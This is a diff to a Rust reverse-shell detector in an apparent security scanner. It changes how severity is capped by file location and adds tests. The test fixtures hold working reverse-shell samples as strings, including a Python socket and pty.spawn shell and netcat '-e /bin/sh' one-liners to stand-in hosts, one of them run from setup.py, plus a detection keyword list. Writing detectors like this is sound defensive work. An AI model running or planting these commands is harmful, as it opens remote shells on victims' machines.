@@ -5,10 +5,12 @@
 //!
 //! Python: needs both a socket connect and a shell wiring in code in the same file.
 //! Tests are not skipped (a reverse shell has no business in tests either) but
-//! lowered to High.
+//! capped by place: tests/docs/CI medium, shipped scripts high, data files such as
+//! guardrail keyword lists low.
 
+use super::context;
 use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
-use crate::model::{Category, FileRole, Severity};
+use crate::model::{Category, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, TextFile};
 use regex::Regex;
 use std::sync::LazyLock;
@@ -40,8 +42,8 @@ impl Detector for ReverseShell {
         &["dup2", "pty.spawn", "/dev/tcp", "/dev/udp", "nc -e", "ncat", "-e /bin/", "mkfifo", "stdin="]
     }
     fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
-        let test = file.role == FileRole::TestOrDocs || pysrc::looks_like_test_path(file.path);
-        let sev = Some(if test { Severity::High } else { Severity::Critical });
+        // Capped by place: tests/docs/CI medium, scripts high, data files (keyword lists) low.
+        let sev = Some(context::cap(file, Severity::Critical));
         let src = Source::new(file);
         let mut n = 0;
         for m in ONE_LINER.find_iter(file.text) {
@@ -74,8 +76,8 @@ impl Detector for ReverseShell {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::model::FileRole::*;
     use crate::scan::detectors::testutil::table;
-    use FileRole::*;
     use Severity::*;
 
     const CLASSIC: &str = "import socket,os,pty\ns=socket.socket()\ns.connect((H,4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n";
@@ -106,9 +108,23 @@ mod tests {
                     "pkg/x.sh",
                     Runtime,
                     "nc 10.0.0.1 4444 -e /bin/sh\n",
-                    Some((1, "nc 10.0.0.1 4444 -e /bin/sh", Critical)),
+                    Some((1, "nc 10.0.0.1 4444 -e /bin/sh", High)),
                 ),
-                ("in tests lowered", "pkg/tests/t.py", Runtime, CLASSIC, Some((4, "os.dup2", High))),
+                ("in tests lowered", "pkg/tests/t.py", Runtime, CLASSIC, Some((4, "os.dup2", Medium))),
+                (
+                    "guardrail keyword list in yaml",
+                    "pkg/content_filter_data/categories/prompt_injection_malicious_code.yaml",
+                    Other,
+                    "keywords:\n  - keyword: \"nc -e /bin/sh\"\n",
+                    Some((2, "nc -e /bin/sh", Low)),
+                ),
+                (
+                    "nc -e in setup.py stays critical",
+                    "setup.py",
+                    InstallTime,
+                    "os.system('nc example.org 4444 -e /bin/sh')\n",
+                    Some((1, "nc example.org 4444 -e /bin/sh", Critical)),
+                ),
                 (
                     "pty without socket (terminal tool)",
                     "pkg/term.py",
